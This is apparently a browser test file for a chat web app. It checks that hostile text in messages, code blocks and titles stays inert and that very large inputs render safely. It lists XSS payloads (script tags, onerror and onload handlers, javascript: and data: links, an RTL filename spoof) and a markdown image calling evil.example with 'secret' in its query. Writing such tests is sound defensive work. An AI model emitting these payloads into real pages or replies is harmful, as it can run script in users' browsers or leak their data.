/** What a model, a user or a title says does nothing on the page: it is shown. */

import { expect, test } from "vitest";
import { atRest, call, cluster, newChat, open, until } from "./page.ts";

const LINES = [
  "<script>window.hit = 1</script>",
  "<img src=x onerror='window.hit = 1'>",
  "![pixel](https://evil.example/p.png?q=secret)",
  "![pixel](/api/v1/me)",
  "[click](javascript:window.hit=1)",
  "[data](data:text/html,<script>window.hit=1</script>)",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<style>*{display:none !important}</style>",
  "<svg onload=window.hit=1>",
  "\u202Egnp.exe\u202C",
  "<a href='https://evil.example' target=_top onclick=window.hit=1>words</a>",
];

test("hostile text is inert in messages, in code, in titles and in the list", async () => {
  const text = LINES.join("\n");
  const { id } = await newChat(`[[say=${text}\n\`\`\`html\n${LINES[0]}\n\`\`\`]]`, { title: LINES[1] });
  await atRest(id);
  const page = await open("/");
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`${cluster.url}/chats/${id}`);
  await page.getByText("window.hit = 1").first().waitFor();
  await page
    .getByRole("main")
    .getByRole("button", { name: /^Menu of/ })
    .click();
  await page.keyboard.press("Escape");
  const links = await page
    .locator(".prose a")
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
  expect(links.filter((protocol) => protocol !== "https:")).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  expect(asked.filter((url) => !url.startsWith(cluster.url))).toEqual([]);
  expect(asked.filter((url) => url.endsWith("/me"))).toEqual([]);
  expect(await page.locator(".prose :is(script, img, iframe, style, svg)").count()).toBe(0);
});

test("lines of 100 kB, deep nesting and 40 kB of Markdown are shown, and the page goes on", async () => {
  const texts = [
    "x".repeat(100_000),
    `${"> ".repeat(2000)}deep`,
    `${"- **a** `b` [c](https://d.example)\n".repeat(1000)}end`,
  ];
  const { id } = await newChat("[[say=begin]]");
  await atRest(id);
  for (const text of texts) {
    await call("POST", `/chats/${id}/messages`, { content: `[[tps=0 say=${text}]]` });
    await atRest(id);
  }
  const page = await open(`/chats/${id}`);
  await page.getByText("end", { exact: false }).last().waitFor();
  const width = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  await until("nothing is wider than the page", async () => (await width()) <= 0);
});
